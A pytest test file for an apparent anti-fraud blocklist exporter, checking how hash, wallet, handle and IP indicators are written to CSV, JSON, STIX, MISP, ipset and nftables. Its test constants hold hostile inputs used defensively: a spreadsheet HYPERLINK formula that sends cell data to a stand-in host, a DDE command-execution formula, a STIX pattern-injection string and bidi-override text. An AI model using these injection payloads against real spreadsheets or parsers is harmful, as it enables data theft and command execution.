"""Indicators beside the entries: addresses, APK and certificate hashes, wallets and chat handles.

Each kind goes only where the product allows it: every kind to the
intelligence formats (CSV, JSON, STIX but for wallets, MISP), addresses to the
IP sets too, and nothing to a list format, so a hash never becomes a name or a
URL. Each format is read back the way its consumers read it (Python's csv and
json modules, stix2 with the OASIS validator and matcher, PyMISP, the kernel
through ``ipset restore`` and ``nft -f``), with hostile text in the values and
the context. The shapes themselves are in golden files (``golden/indicators/``;
regenerate with ``UPDATE_GOLDEN=1`` and review the diff).
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import shlex
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import stix2
from pymisp import MISPEvent
from pymisp.abstract import describe_types
from stix2matcher.matcher import Pattern
from stix2patterns.validator import run_validator
from stix2validator import ValidationOptions, validate_string

from fraudwall.entries import CompiledEntries, EntryTable
from fraudwall.exceptions import PublishRefused, VerificationError
from fraudwall.exporters import EXPORTERS, CollapseGuard, ExportMeta, export, get_exporter
from fraudwall.exporters.base import DocumentExporter, FolderExporter
from fraudwall.exporters.csv_format import FORMULA_STARTS, read_records, split_items
from fraudwall.exporters.json_format import indicator_record, indicator_records, record
from fraudwall.exporters.misp import HASHES, MANIFEST, MispExporter, wallet_type
from fraudwall.exporters.stix import _pattern_fits
from fraudwall.exporters.validation import prepare
from fraudwall.models import Action, BlockEntry, Indicator, SubjectKind
from tests.exporters.test_export_contract import CONSUMERS
from tests.exporters.test_export_ipset import _in_netns

GOLDEN = Path(__file__).parent / "golden" / "indicators"
APK = hashlib.sha256(b"x").hexdigest()
CERTIFICATE = hashlib.sha256(b"signing certificate").hexdigest()
TRON = "TRTPLGm13bggWoHH36hTyd9JMBd49NqaVD"
BITCOIN = "1BoatSLRHtKNngkdXEeobR76b53LETtpyT"
HANDLE = "@fzzx_kefu"
# Printable and without spaces, so valid handles and wallets: formula starts, quotes, commas, escapes, CJK.
HOSTILE_HANDLES = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+86-138", "-2+3", "'quoted",
                   'say"hi",x;y\\z', "客服小王", "it's'])OR[url:value='x")
HOSTILE_LABEL = "国家反诈中心\n=cmd|' /C calc'!A0\u2028\u202e"
FIRST_SEEN = datetime(2024, 11, 1, 12, 30, tzinfo=UTC)
INTEL_FORMATS = ("csv", "json", "stix", "misp")
IP_SETS = ("ipset", "nftables")
# Every value only an intelligence format may carry.
NEVER_LISTED = (APK, CERTIFICATE, TRON, BITCOIN, HANDLE, *HOSTILE_HANDLES)


def _indicators() -> list[Indicator]:
    """A few of each kind, one refused address and one unprintable handle among them."""
    found = {"sources": ("detector:apk_signals",), "first_seen": FIRST_SEEN,
             "last_seen": FIRST_SEEN + timedelta(days=2), "confidence": 0.9}
    return [
        Indicator(SubjectKind.APK, APK, categories=("fake_app",), context=(
            ("package", "com.gjfzzx.app"), ("label", HOSTILE_LABEL), ("certificate", CERTIFICATE),
            ("download_url", "https://dl.example.com/a.apk?x='1',y=\"2\""), ("download_host", "dl.example.com"),
            ("Bad Key", "dropped: a key that is no token"), ("empty", "")), **found),
        Indicator(SubjectKind.CERTIFICATE, CERTIFICATE, categories=("fake_app",), **found),
        Indicator(SubjectKind.WALLET, TRON, categories=("investment",),
                  context=(("seen_in", "https://usdt.example.com/pay"),), **found),
        Indicator(SubjectKind.WALLET, BITCOIN, categories=("investment",)),
        Indicator(SubjectKind.HANDLE, HANDLE, categories=("diversion",),
                  context=(("seen_in", "https://kefu.example.com/"),), **found),
        *(Indicator(SubjectKind.HANDLE, handle) for handle in HOSTILE_HANDLES),
        Indicator(SubjectKind.IP, "203.0.113.7", **found),
        Indicator(SubjectKind.IP, "2001:DB8:0::5"),  # written 2001:db8::5
        Indicator(SubjectKind.IP, "10.0.0.1"),  # private: refused everywhere
        Indicator(SubjectKind.HANDLE, "bidi\u202eoverride"),  # unprintable: refused everywhere
    ]


def _entries(indicators: list[Indicator] | None = None, others: list[BlockEntry] | None = None) -> CompiledEntries:
    """A compiled list: a blocked name and a URL, and the indicators beside them."""
    if others is None:
        others = [BlockEntry("kefu.example.com", addresses=("203.0.113.7",), categories=("customer_service",)),
                  BlockEntry("icbc-verify.github.io", url="https://icbc-verify.github.io/login.html")]
    return CompiledEntries(EntryTable.from_entries([], Action.BLOCK), others,
                           _indicators() if indicators is None else indicators)


def _report(path: Path) -> dict[str, Any]:
    """The report published beside ``path``."""
    return json.loads(path.with_name(f"{path.name}.report.json").read_text(encoding="utf-8"))


def _event(folder: Path) -> tuple[Path, dict[str, Any]]:
    """The event file of a MISP feed folder and its document."""
    event_file = next(path for path in folder.iterdir() if path.name not in (MANIFEST, HASHES))
    return event_file, json.loads(event_file.read_text(encoding="utf-8"))


# -- validation ------------------------------------------------------------------


def test_prepare_checks_writes_one_way_and_orders_indicators() -> None:
    """A private address and an unprintable handle are rejected and counted; an address is written one way
    (an IPv4-mapped one as IPv4), each (kind, value) once, sorted by kind and value."""
    extra = [Indicator(SubjectKind.IP, "::ffff:198.51.100.3"), Indicator(SubjectKind.IP, "198.51.100.3"),
             Indicator(SubjectKind.APK, APK.upper()), Indicator(SubjectKind.IP, "192.0.2.0/24")]
    prepared = prepare(_entries(_indicators() + extra))
    assert prepared.rejections == {"not-global": 1, "unprintable": 1, "not-a-sha256": 1, "not-one-address": 1}
    kept = [(str(item.kind), item.value) for item in prepared.indicators]
    assert kept == sorted(kept) and len(kept) == len(set(kept))
    assert [value for kind, value in kept if kind == "ip"] == ["198.51.100.3", "2001:db8::5", "203.0.113.7"]


def test_every_format_counts_indicators_it_carries_and_notes_the_others(meta: ExportMeta) -> None:
    """The entry count (what the collapse guard compares) includes the indicators a format publishes;
    the notes, in the header and the report, count the ones it leaves out."""
    entries = _entries()
    for name in sorted(EXPORTERS):
        exporter = get_exporter(name)
        prepared = exporter.prepare(entries, meta)
        without = exporter.prepare(_entries([]), meta)
        carried = exporter.entry_count(prepared) - exporter.entry_count(without)
        left_out = [note for note in exporter.notes_once(prepared) if "not carried by this format" in note]
        if name in INTEL_FORMATS:
            assert carried == len(prepared.indicators) and not left_out, name
        elif name in IP_SETS:
            assert carried == 1 and left_out == [  # 203.0.113.7 is resolved by kefu.example.com already
                "indicators: not carried by this format, left out: 12 (apk 1, certificate 1, handle 8, wallet 2);"
                " csv, json, stix and misp publish them, ipset and nftables the addresses"], name
        else:
            assert carried == 0 and left_out and left_out[0].startswith(
                "indicators: not carried by this format, left out: 14 (apk 1, certificate 1, handle 8, ip 2,"), name


def test_indicators_alone_are_no_collapse(tmp_path: Path, meta: ExportMeta) -> None:
    """A list of indicators only is not "every input rejected": the collapse guard publishes it."""
    result = export(_entries(others=[]), "json", tmp_path / "x.json", title="t", verify=True,
                    generated_at=meta.generated_at, collapse=CollapseGuard())
    assert result.entries == 14 and _report(tmp_path / "x.json")["entries"] == 14
    with pytest.raises(PublishRefused, match="every input was rejected"):
        export(_entries([Indicator(SubjectKind.IP, "10.0.0.1")], others=[]), "json", tmp_path / "y.json",
               title="t", verify=True, generated_at=meta.generated_at, collapse=CollapseGuard())


# -- a hash never becomes a name or a URL -----------------------------------------


@pytest.mark.parametrize("name", sorted(set(EXPORTERS) - set(INTEL_FORMATS) - set(IP_SETS)))
def test_list_formats_carry_no_indicator(name: str, meta: ExportMeta) -> None:
    """A list format's output with indicators is its output without them, but for the header's rejection
    count and the note counting what it left out: no hash, wallet or handle reaches a resolver or a proxy."""
    exporter = get_exporter(name)
    text = exporter.render(_entries(), meta)
    without = exporter.render(_entries([]), meta)
    prefix = exporter.comment_prefix
    changed = [line for line in text.splitlines() if line not in without.splitlines()]
    assert [line.split(":")[0] for line in changed] == [f"{prefix} rejected", f"{prefix} indicators"]
    data = [line for line in text.splitlines() if not line.startswith(prefix)]
    assert not any(value in line for value in NEVER_LISTED for line in data)
    assert not any(address in line for address in ("203.0.113.7", "2001:db8::5") for line in data)


@pytest.mark.parametrize("name", INTEL_FORMATS)
def test_intel_formats_never_make_an_indicator_a_name_or_url(name: str, meta: ExportMeta) -> None:
    """The consumers of the intelligence formats block names from domain records, hostname and domain
    attributes and domain-name patterns: no hash, wallet or handle is among them."""
    exporter = get_exporter(name)
    prepared = exporter.prepare(_entries(), meta)
    if isinstance(exporter, FolderExporter):
        text = next("".join(pieces) for file, pieces in exporter.render_files(prepared, meta).items()
                    if file not in (MANIFEST, HASHES))
    else:
        text = exporter.render_prepared(prepared, meta)
    blocked = CONSUMERS[name](text)
    assert blocked("kefu.example.com")
    assert not any(blocked(value) for value in NEVER_LISTED)


# -- CSV and JSON ----------------------------------------------------------------


def test_csv_round_trips_indicator_rows(meta: ExportMeta, tmp_path: Path) -> None:
    """Python's csv module reads every indicator row back to its record, after the entries, hostile
    handles and context whole: a comma, quote, newline or formula start never breaks or runs a cell."""
    path = tmp_path / "intel.csv"
    export(_entries(), "csv", path, title="t", verify=True, generated_at=meta.generated_at)
    text = path.read_bytes().decode("utf-8")
    prepared = get_exporter("csv").prepare(_entries(), meta)
    entries = sorted(prepared.blocked, key=lambda e: e.name) + list(prepared.urls)
    assert read_records(text) == [record(entry) for entry in entries] + indicator_records(prepared)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [row["type"] for row in rows] == ["domain", "url", "apk-sha256", "certificate-sha256",
                                            *["handle"] * 8, "ip", "ip", "wallet", "wallet"]
    for row in rows:
        assert all(cell[:1] not in FORMULA_STARTS for cell in row.values())
        assert all(item[:1] not in FORMULA_STARTS for cell in row.values() for item in split_items(cell))
    by_value = {item["value"]: item for item in read_records(text)}
    assert set(HOSTILE_HANDLES) <= by_value.keys()
    apk = by_value[APK]
    assert (apk["name"], apk["scope"], apk["action"]) == ("", "exact", "block")
    assert apk["context"] == ["package:com.gjfzzx.app", f"label:{HOSTILE_LABEL}", f"certificate:{CERTIFICATE}",
                              "download_url:https://dl.example.com/a.apk?x='1',y=\"2\"",
                              "download_host:dl.example.com"]
    assert apk["evidence"] == [f"fraudwall:verdicts?subject={APK}"]
    assert by_value["@fzzx_kefu"]["evidence"] == ["fraudwall:verdicts?subject=%40fzzx_kefu"]
    assert by_value[BITCOIN]["evidence"] == []  # no detector source: nothing in the store to point to
    assert _report(path)["rejections"] == {"not-global": 1, "unprintable": 1}


def test_json_round_trips_indicator_records(meta: ExportMeta, tmp_path: Path) -> None:
    """json.loads gives back every indicator record after the entries, counted in the head, one per line
    (the label's line and paragraph separators and bidi override escaped)."""
    path = tmp_path / "intel.json"
    export(_entries(), "json", path, title="t", verify=True, generated_at=meta.generated_at)
    text = path.read_text(encoding="utf-8")
    document = json.loads(text)
    prepared = get_exporter("json").prepare(_entries(), meta)
    assert document["count"] == len(document["entries"]) == 2 + len(prepared.indicators) == 16
    assert document["entries"][2:] == indicator_records(prepared)
    assert len(text.splitlines()) == document["count"] + 2
    assert "\u2028" not in text and "\u202e" not in text and "国家反诈中心" in text
    tron = next(item for item in document["entries"] if item["value"] == TRON)
    assert tron == indicator_record(next(item for item in prepared.indicators if item.value == TRON))
    assert (tron["type"], tron["first_seen"], tron["last_seen"], tron["confidence"], tron["context"]) == (
        "wallet", "2024-11-01T12:30:00Z", "2024-11-03T12:30:00Z", 0.9, ["seen_in:https://usdt.example.com/pay"])


@pytest.mark.parametrize(
    ("old", "new", "error"),
    [
        (f'"value": "{APK}"', '"value": "not-a-hash"', "not-a-sha256"),
        ('"value": "203.0.113.7", "name": ""', '"value": "10.0.0.1", "name": ""', "not-global"),
        ('"value": "2001:db8::5"', '"value": "2001:DB8::5"', "not-canonical"),
        (f'"value": "{CERTIFICATE}", "name": ""', f'"value": "{CERTIFICATE}", "name": "evil.example.com"',
         "no name"),
        ('"type": "wallet"', '"type": "iban"', "bad type"),
        ('"context": ["seen_in:https://usdt', '"context": ["Seen In:https://usdt', "key:value"),
    ],
)
def test_json_verify_refuses_a_bad_indicator_record(
    old: str, new: str, error: str, meta: ExportMeta, tmp_path: Path,
) -> None:
    """A hash that is none, an address no list may carry or not written one way, an indicator with a
    name, an unknown type or a context without keys fails verification."""
    exporter = get_exporter("json")
    text = exporter.render(_entries(), meta)
    assert old in text
    path = tmp_path / "tampered.json"
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    with pytest.raises(VerificationError, match=error):
        exporter.verify(path, meta)


def test_csv_and_json_verify_refuse_indicators_out_of_order(meta: ExportMeta, tmp_path: Path) -> None:
    """Indicators come after every entry, by type and value: a swapped pair fails verification."""
    exporter = get_exporter("json")
    lines = exporter.render(_entries(), meta).split("\n")
    lines[3], lines[4] = lines[4], lines[3]  # after the head and two entries: the APK and the certificate
    path = tmp_path / "swapped.json"
    path.write_text("\n".join(lines), encoding="utf-8")
    with pytest.raises(VerificationError, match="out of order"):
        exporter.verify(path, meta)
    exporter = get_exporter("csv")
    rows = list(csv.reader(io.StringIO(exporter.render(_entries(), meta), newline="")))
    rows[3], rows[4] = rows[4], rows[3]  # a record may span lines: swapped as rows
    path = tmp_path / "swapped.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, quoting=csv.QUOTE_ALL, lineterminator="\n").writerows(rows)
    with pytest.raises(VerificationError, match="out of order"):
        exporter.verify(path, meta)


# -- STIX ------------------------------------------------------------------------


def _observed(sco: dict[str, Any]) -> list[dict[str, Any]]:
    """``sco`` in a bundle with the observed-data that saw it, as a matcher takes it."""
    sco = {"id": f"{sco['type']}--{uuid.uuid4()}", **sco}
    observed = {
        "type": "observed-data", "spec_version": "2.1", "id": f"observed-data--{uuid.uuid4()}",
        "created": "2024-11-25T08:00:00.000Z", "modified": "2024-11-25T08:00:00.000Z",
        "first_observed": "2024-11-25T08:00:00Z", "last_observed": "2024-11-25T08:00:00Z",
        "number_observed": 1, "object_refs": [sco["id"]],
    }
    return [{"type": "bundle", "id": f"bundle--{uuid.uuid4()}", "objects": [observed, sco]}]


def test_stix_indicators_are_core_stix_and_match_what_they_say(meta: ExportMeta, tmp_path: Path) -> None:
    """stix2 parses the bundle with no custom content; stix2-validator, even with strict_types (only
    STIX's own object types in patterns), finds no error and warns only of the uuid5 ids (on purpose);
    the OASIS matcher matches each pattern against the object it names, and nothing else. Wallets have
    no STIX object: rejected and counted."""
    path = tmp_path / "intel.stix.json"
    export(_entries(), "stix", path, title="t", verify=True, generated_at=meta.generated_at)
    text = path.read_text(encoding="utf-8")
    bundle = stix2.parse(text, allow_custom=False, version="2.1")
    result = validate_string(text, ValidationOptions(version="2.1", strict_types=True, strict_properties=True))
    assert result.is_valid and all("is not a valid UUIDv4 ID" in str(warning) for warning in result.warnings)
    patterns = {item.name: item.pattern for item in bundle.objects if item.type == "indicator"}
    assert all(run_validator(pattern, stix_version="2.1") == [] for pattern in patterns.values())
    assert set(patterns) >= {APK, CERTIFICATE, HANDLE, "203.0.113.7", "2001:db8::5", *HOSTILE_HANDLES}
    assert TRON not in text and BITCOIN not in text
    assert _report(path)["rejections"] == {"no-stix-object-for-wallet": 2, "not-global": 1, "unprintable": 1}
    observations = {
        APK: {"type": "file", "hashes": {"SHA-256": APK}},
        CERTIFICATE: {"type": "x509-certificate", "hashes": {"SHA-256": CERTIFICATE}},
        HANDLE: {"type": "user-account", "account_login": HANDLE},
        HOSTILE_HANDLES[-1]: {"type": "user-account", "account_login": HOSTILE_HANDLES[-1]},
        "203.0.113.7": {"type": "ipv4-addr", "value": "203.0.113.7"},
        "2001:db8::5": {"type": "ipv6-addr", "value": "2001:db8::5"},
    }
    for value, sco in observations.items():
        matching = [name for name, pattern in patterns.items()
                    if Pattern(pattern, stix_version="2.1").match(_observed(sco))]
        assert matching == [value]
    apk = next(item for item in bundle.objects if item.get("name") == APK)
    assert "package: com.gjfzzx.app" in apk.description and "国家反诈中心" in apk.description
    assert apk.external_references[0].external_id == f"fraudwall:verdicts?subject={APK}"
    assert (apk.valid_from, apk.confidence, apk.indicator_types) == (FIRST_SEEN, 90, ["malicious-activity"])


def test_stix_ids_of_indicators_are_stable(meta: ExportMeta) -> None:
    """An indicator's id depends on its type and value only: a later export, with other entries,
    gives it the same id."""
    stix = get_exporter("stix")
    later = ExportMeta("other", meta.generated_at + timedelta(days=1))
    ids = [{item["name"]: item["id"] for item in json.loads(stix.render(entries, when))["objects"][1:]}
           for entries, when in ((_entries(), meta), (_entries(others=[]), later))]
    assert ids[1].items() <= ids[0].items() and len(ids[1]) == 12  # 14 indicators but the 2 wallets


@pytest.mark.parametrize(
    ("pattern", "name", "fits"),
    [
        ("[ipv4-addr:value = '203.0.113.7']", "203.0.113.7", True),
        ("[ipv6-addr:value = '2001:db8::5']", "2001:db8::5", True),
        ("[ipv4-addr:value = '2001:db8::5']", "2001:db8::5", False),  # the wrong family
        ("[ipv4-addr:value = '10.0.0.1']", "10.0.0.1", False),  # no list may carry it
        ("[ipv6-addr:value = '2001:db8:0::5']", "2001:db8:0::5", False),  # not written one way
        (f"[file:hashes.'SHA-256' = '{APK}']", APK, True),
        (f"[x509-certificate:hashes.'SHA-256' = '{APK}']", APK, True),
        (f"[file:hashes.'MD5' = '{APK[:32]}']", APK[:32], False),
        (f"[file:hashes.'SHA-256' = '{APK}']", CERTIFICATE, False),  # another indicator's pattern
        ("[user-account:account_login = '@fzzx_kefu']", HANDLE, True),
        ("[user-account:account_login = 'it\\'s\\'])OR[url:value=\\'x']", HOSTILE_HANDLES[-1], True),
        ("[user-account:account_login = 'it's'])OR[url:value='x']", HOSTILE_HANDLES[-1], False),
        ("[user-account:account_login = '@x' OR user-account:account_login = '@y']", "@x", False),
        (f"[cryptocurrency-wallet:value = '{TRON}']", TRON, False),
    ],
)
def test_stix_checker_accepts_the_written_patterns_only(pattern: str, name: str, fits: bool) -> None:
    """The render and verify guard takes an indicator's pattern only in the shape this format writes for
    its name: one address of the right family, a SHA-256 of a file or certificate, a handle quoted."""
    assert _pattern_fits(pattern, name) is fits


# -- MISP ------------------------------------------------------------------------


def test_misp_indicator_attributes_are_what_pymisp_reads(meta: ExportMeta, tmp_path: Path) -> None:
    """PyMISP loads the event and writes it, its manifest and hashes.csv exactly as published; every
    indicator is an attribute of the type, a category MISP allows for it and its default to_ids."""
    out = tmp_path / "misp"
    export(_entries(), "misp", out, title="t", verify=True, generated_at=meta.generated_at)
    event_file, document = _event(out)
    event = MISPEvent()
    event.load_file(event_file)
    assert event.to_feed() == document
    assert event.manifest == json.loads((out / MANIFEST).read_text())
    assert (out / HASHES).read_text().splitlines() == [f"{md5},{event.uuid}" for md5 in event.attributes_hashes("md5")]
    attributes = {a["value"]: a for a in document["Event"]["Attribute"]}
    expected = {
        APK: ("sha256", "Payload delivery", True),
        CERTIFICATE: ("x509-fingerprint-sha256", "Payload delivery", True),
        BITCOIN: ("btc", "Financial fraud", True),
        TRON: ("text", "Financial fraud", False),
        HANDLE: ("text", "Social network", False),
        "203.0.113.7": ("ip-dst", "Network activity", True),
        "2001:db8::5": ("ip-dst", "Network activity", True),
        **{handle: ("text", "Social network", False) for handle in HOSTILE_HANDLES},
    }
    assert {value: (a["type"], a["category"], a["to_ids"]) for value, a in attributes.items()
            if value in expected} == expected
    for kind, category, to_ids in expected.values():
        assert kind in describe_types["category_type_mappings"][category]
        assert to_ids == bool(describe_types["sane_defaults"][kind]["to_ids"])
        # The certificate leaves its default category (Network activity: a TLS server's) for the app's,
        # and text its "Other" for what the text is: a wallet (Financial fraud) or a handle (Social network).
        assert category == describe_types["sane_defaults"][kind]["default_category"] or kind in (
            "x509-fingerprint-sha256", "text")
    comment = attributes[APK]["comment"]
    assert f"label: {HOSTILE_LABEL}" in comment and "download_host: dl.example.com" in comment
    assert [tag["name"] for tag in attributes[APK]["Tag"]] == ['fraudwall:category="fake_app"']
    assert len(event_file.read_text().splitlines()) == len(attributes) + 2


def test_misp_folds_a_resolved_address_into_its_ip_indicator(meta: ExportMeta) -> None:
    """An address that is an IP indicator and also resolved for a published name is one ip-dst, a
    block (to_ids true) saying where it resolved: MISP attribute values are unique in an event."""
    entries = _entries([Indicator(SubjectKind.IP, "8.8.8.8")],
                       [BlockEntry("kefu.example.com", addresses=("8.8.8.8", "8.8.4.4"))])
    exporter = MispExporter()
    prepared = exporter.prepare(entries, meta)
    files = exporter.render_files(prepared, meta)
    document = json.loads(next("".join(pieces) for name, pieces in files.items() if name not in (MANIFEST, HASHES)))
    addresses = {a["value"]: a for a in document["Event"]["Attribute"] if a["type"] == "ip-dst"}
    assert {value: a["to_ids"] for value, a in addresses.items()} == {"8.8.4.4": False, "8.8.8.8": True}
    assert addresses["8.8.8.8"]["comment"].endswith("also seen resolving for kefu.example.com")
    assert any(note.startswith("addresses: ip-dst attributes (to_ids false): 1,") for note in exporter.notes(prepared))


def test_misp_rejects_an_indicator_spelt_like_another_attribute(meta: ExportMeta, tmp_path: Path) -> None:
    """A handle written like a blocked name would give two attributes one value (and one uuid): the
    indicator is rejected as misp-duplicate-value and counted; the feed still verifies."""
    entries = _entries([Indicator(SubjectKind.HANDLE, "kefu.example.com"), Indicator(SubjectKind.HANDLE, HANDLE)])
    result = export(entries, "misp", tmp_path / "misp", title="t", verify=True, generated_at=meta.generated_at)
    assert _report(result.path)["rejections"] == {"misp-duplicate-value": 1}
    values = [a["value"] for a in _event(result.path)[1]["Event"]["Attribute"]]
    assert values.count("kefu.example.com") == 1 and HANDLE in values


@pytest.mark.parametrize(
    ("address", "kind"),
    [
        (BITCOIN, "btc"),
        ("3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy", "btc"),
        ("bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", "btc"),
        ("4" + "A" * 94, "xmr"),
        (TRON, "text"),
        ("0x52908400098527886E0F7030069857D2E4169EE7", "text"),
        ("1" + "0" * 30, "text"),  # 0 is no base58 digit
    ],
)
def test_misp_wallet_types(address: str, kind: str) -> None:
    """Bitcoin and Monero addresses get MISP's btc and xmr types; chains MISP has no type for are text."""
    assert wallet_type(address) == kind


# -- IP sets ---------------------------------------------------------------------


def test_ip_sets_load_the_ip_indicators_in_the_kernel(meta: ExportMeta, tmp_path: Path) -> None:
    """ipset and nft load the IP indicators (the private one was refused, the IPv6 one written one way);
    an indicator an allowed name uses is left out and counted."""
    indicators = _indicators() + [Indicator(SubjectKind.IP, "198.51.100.20")]
    others = [BlockEntry("kefu.example.com"), BlockEntry("ok.example.com", action=Action.ALLOW,
                                                         addresses=("198.51.100.20",))]
    paths = {name: tmp_path / f"list.{name}" for name in IP_SETS}
    for name, path in paths.items():
        export(_entries(indicators, others), name, path, title="t", verify=True, generated_at=meta.generated_at)
    ipset, nft = paths["ipset"], paths["nftables"]
    listed = _in_netns(
        f"ipset restore -file {shlex.quote(str(ipset))} && ipset list fraudwall-v4 && ipset list fraudwall-v6"
        f" && echo NFT && nft -f {shlex.quote(str(nft))} && nft list table inet fraudwall"
    )
    for part in listed.split("NFT"):
        assert "203.0.113.7" in part and "2001:db8::5" in part
        assert "10.0.0.1" not in part and "198.51.100.20" not in part
    for name, path in paths.items():
        text = path.read_text()
        assert "addresses: 2 from blocked names and IP indicators (2 IP indicators;" in text
        assert "addresses an allowed name uses, left out: 1" in text
        assert "# rejected: 2" in text  # 10.0.0.1 and the unprintable handle, as in every format
        blocked = CONSUMERS[name](text)
        assert blocked("203.0.113.7") and blocked("2001:db8::5") and not blocked("198.51.100.20")


# -- golden files ------------------------------------------------------------------


@pytest.mark.parametrize("name", [*INTEL_FORMATS, *IP_SETS])
def test_indicator_golden_file(name: str, meta: ExportMeta) -> None:
    """The full output for a name, a URL and the indicators, byte for byte (MISP's folder in ``misp/``)."""
    exporter = get_exporter(name)
    prepared = exporter.prepare(_entries(), meta)
    if isinstance(exporter, FolderExporter):
        files = {file: "".join(pieces) for file, pieces in exporter.render_files(prepared, meta).items()}
    else:
        files = {f"{name}.txt": exporter.render_prepared(prepared, meta)}
    folder = GOLDEN / name if isinstance(exporter, FolderExporter) else GOLDEN
    if os.environ.get("UPDATE_GOLDEN") == "1":
        folder.mkdir(parents=True, exist_ok=True)
        for file, content in files.items():
            (folder / file).write_text(content, encoding="utf-8")
    assert {file: (folder / file).read_text(encoding="utf-8") for file in files} == files
    if isinstance(exporter, FolderExporter):
        assert sorted(path.name for path in folder.iterdir()) == sorted(files)
    assert isinstance(exporter, DocumentExporter) or "# indicators: not carried by this format" in files[f"{name}.txt"]
